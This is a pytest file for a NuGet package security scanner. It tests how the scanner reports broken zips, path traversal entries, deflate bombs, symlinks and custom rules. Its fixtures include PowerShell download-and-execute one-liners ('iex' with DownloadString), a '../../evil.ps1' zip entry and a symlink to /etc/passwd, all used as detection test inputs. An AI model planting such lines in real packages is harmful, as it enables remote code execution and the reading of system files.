"""The package view (nuseal.scan.package) and the engine: bad containers are findings, never crashes; rules as data."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest

from nuseal.scan import rules as rules_module
from nuseal.scan.engine import Scanner
from nuseal.scan.model import Severity
from nuseal.scan.package import ScanPackage
from nuseal.scan.powershell import MAX_SCRIPT_SIZE
from nuseal.scan.powershell import analyse as powershell
from nuseal.scan.rules import RulesError, load_rules

from .scan_support import by_rule, make_nupkg, nuspec, scan_bytes


def test_garbage_is_an_unreadable_package() -> None:
    found = by_rule(scan_bytes(b"not a zip at all"))
    assert found["NS9001"][0].severity is Severity.ERROR


def test_zip_structure_problems_are_findings() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("P.nuspec", nuspec("P", "1.0.0"))
        z.writestr("../../evil.ps1", "x")
        z.writestr("lib/a.dll", b"1")
        with pytest.warns(UserWarning, match="Duplicate name"):
            z.writestr("lib/a.dll", b"2")
    found = by_rule(scan_bytes(buf.getvalue()))
    messages = " ".join(f.message for f in found["NS9002"])
    assert "'..' segment" in messages
    assert "more than once" in messages
    assert all(f.severity is Severity.ERROR for f in found["NS9002"])


def test_deflate_bomb_is_a_finding_not_a_crash() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("P.nuspec", nuspec("P", "1.0.0"))
        z.writestr("tools/init.ps1", b"\n" * (8 << 20))
    found = by_rule(scan_bytes(buf.getvalue()))
    assert "compression ratio" in " ".join(f.message for f in found["NS9002"])
    assert "tools/init.ps1" in " ".join(f.message for f in found["NS9004"])  # over the script bound: not analysed


def test_missing_nuspec() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("tools/init.ps1", "iex (iwr http://x)")
    report = scan_bytes(buf.getvalue())
    assert report.package.id is None
    assert by_rule(report)["NS9003"][0].severity is Severity.ERROR


def _long_description_nupkg() -> bytes:
    meta = (
        '<?xml version="1.0" encoding="utf-8"?>\n<package><metadata><id>Contoso.Verbose</id><version>2.0.0</version>'
        f"<authors>nuseal tests</authors><description>{'A long description. ' * 300}</description>"
        f"<title>{'T' * 300}</title></metadata></package>"
    ).encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("Contoso.Verbose.nuspec", meta)
        z.writestr("tools/init.ps1", "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.9/x')")
    return buf.getvalue()


def test_nuspec_fields_over_nuget_org_limits_are_notes_and_the_package_keeps_its_identity(tmp_path: Path) -> None:
    data = _long_description_nupkg()
    report = scan_bytes(data)
    assert (report.package.id, report.package.version) == ("Contoso.Verbose", "2.0.0")
    found = by_rule(report)
    assert "NS9003" not in found
    notes = found["NS9009"]
    assert {f.severity for f in notes} == {Severity.NOTE}
    assert any("<description> is 5999 characters; the limit is 4000" in f.message for f in notes)  # trimmed
    assert any("<title> is 300 characters" in f.message for f in notes)
    assert {f.location.path for f in notes} == {"Contoso.Verbose.nuspec"}
    assert "NS1110" in found  # the package's content was analysed as usual
    # the same from an extracted folder
    folder = tmp_path / "contoso.verbose" / "2.0.0"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        z.extractall(folder)
    from_folder = Scanner(load_rules()).scan(ScanPackage.from_folder(folder))
    assert from_folder.package.id == "Contoso.Verbose" and "NS9009" in by_rule(from_folder)


def test_corrupt_entry_is_reported_and_the_rest_scanned() -> None:
    data = bytearray(make_nupkg("P", files={"tools/install.ps1": "Write-Host hi " * 50, "tools/init.ps1": "iex $x"}))
    # flip a byte inside install.ps1's compressed data
    at = data.find(b"tools/install.ps1") + len("tools/install.ps1") + 5
    data[at] ^= 0xFF
    found = by_rule(scan_bytes(bytes(data)))
    assert "NS9004" in found
    assert "NS1102" in found  # init.ps1 still analysed


def test_oversized_script_is_not_analysed() -> None:
    script = "Write-Host hi\n" * (MAX_SCRIPT_SIZE // 14 + 10)
    found = by_rule(scan_bytes(make_nupkg("P", files={"tools/init.ps1": script})))
    assert found["NS9004"][0].severity is Severity.WARNING


def test_extracted_folder_with_a_link(tmp_path: Path) -> None:
    folder = tmp_path / "p" / "1.0.0"
    (folder / "tools").mkdir(parents=True)
    (folder / "p.nuspec").write_bytes(nuspec("P", "1.0.0"))
    (folder / "tools" / "init.ps1").write_text("iex (New-Object Net.WebClient).DownloadString('http://x')")
    (folder / "p.1.0.0.nupkg").write_bytes(b"whatever")  # NuGet's own copy: not content
    (folder / ".nupkg.metadata").write_text("{}")
    os.symlink("/etc/passwd", folder / "tools" / "passwd")
    pkg = ScanPackage.from_folder(folder)
    assert sorted(pkg.paths) == ["p.nuspec", "tools/init.ps1"]
    report = Scanner(load_rules()).scan(pkg)
    found = by_rule(report)
    assert found["NS1110"][0].location.path == "tools/init.ps1"
    assert found["NS9005"][0].location.path == "tools/passwd"


def test_identical_findings_reported_once_and_sorted_by_severity() -> None:
    script = "iex $a; iex $a\nWrite-Host ok\n"
    report = scan_bytes(make_nupkg("P", files={"tools/init.ps1": script}))
    severities = [f.severity for f in report.findings]
    assert severities == sorted(severities, reverse=True)
    assert len([f for f in report.findings if f.rule_id == "NS1102"]) == 1


# ----------------------------------------------------------------------------------------------- rules as data
def test_builtin_rules_are_complete() -> None:
    rules = load_rules()
    for rule in rules:
        assert rule.title and rule.help and 0 <= rule.security_severity <= 10
    for rid in ("NS1001", "NS1110", "NS2101", "NS2203", "NS3001", "NS9001"):
        assert rid in rules


def test_user_rules_override_add_and_disable(tmp_path: Path) -> None:
    user = tmp_path / "rules.toml"
    user.write_text(
        """
[[rules]]
id = "NS1140"
severity = "error"

[[rules]]
id = "NS1001"
enabled = false

[[rules]]
id = "ACME1001"
area = "powershell"
title = "Talks to the old build server"
severity = "warning"
security-severity = 5.5
help = "Our old build server is gone; scripts must not reach it."
patterns = ['string:buildsrv\\.acme\\.invalid']
"""
    )
    rules = load_rules([user])
    script = "$u = 'http://buildsrv.acme.invalid/x'\n"
    found = by_rule(scan_bytes(make_nupkg("P", files={"tools/init.ps1": script}), rules))
    assert found["NS1140"][0].severity is Severity.ERROR
    assert "NS1001" not in found
    assert found["ACME1001"][0].severity is Severity.WARNING


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('[[rules]]\nid = "NS1140"\ntitle = "x"\n', "can only change"),
        ('[[rules]]\nid = "X1"\n', "not like NS1234"),
        ('[[rules]]\nid = "ACME0001"\ntitle = "t"\nhelp = "h"\nseverity = "fatal"\n', "unknown severity"),
        ('[[rules]]\nid = "ACME0001"\ntitle = "t"\nhelp = "h"\nseverity = "note"\npatterns = ["code:("]\n', "pattern"),
        ('[[rules]]\nid = "ACME0001"\ntitle = "t"\nhelp = "h"\nseverity = "note"\nfoo = 1\n', "unknown key"),
        ("[[rules]\n", "not valid TOML"),
    ],
)
def test_bad_user_rules_are_clear_errors(tmp_path: Path, text: str, message: str) -> None:
    user = tmp_path / "bad.toml"
    user.write_text(text)
    with pytest.raises(RulesError, match=message):
        load_rules([user])


def test_duplicate_builtin_ids_are_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    one = b'[[rules]]\nid = "NS1001"\ntitle = "a"\nhelp = "b"\nseverity = "note"\n'
    monkeypatch.setattr(rules_module, "_builtin_files", lambda: [("a.toml", one), ("b.toml", one)])
    rules_module._builtin_rules.cache_clear()
    try:
        with pytest.raises(RulesError, match=r"NS1001 is defined in both a\.toml and b\.toml"):
            load_rules()
    finally:
        monkeypatch.undo()
        rules_module._builtin_rules.cache_clear()


def test_a_failing_analyser_is_a_finding_and_the_others_still_report() -> None:
    def broken(pkg: ScanPackage, rules: object) -> list[object]:
        raise RecursionError("deep")

    scanner = Scanner(load_rules(), analysers=(broken, powershell))
    report = scanner.scan(ScanPackage.from_bytes(make_nupkg("P", files={"tools/init.ps1": "iex $x"}), source="t"))
    found = by_rule(report)
    assert "RecursionError: deep" in found["NS9008"][0].message
    assert "NS1102" in found
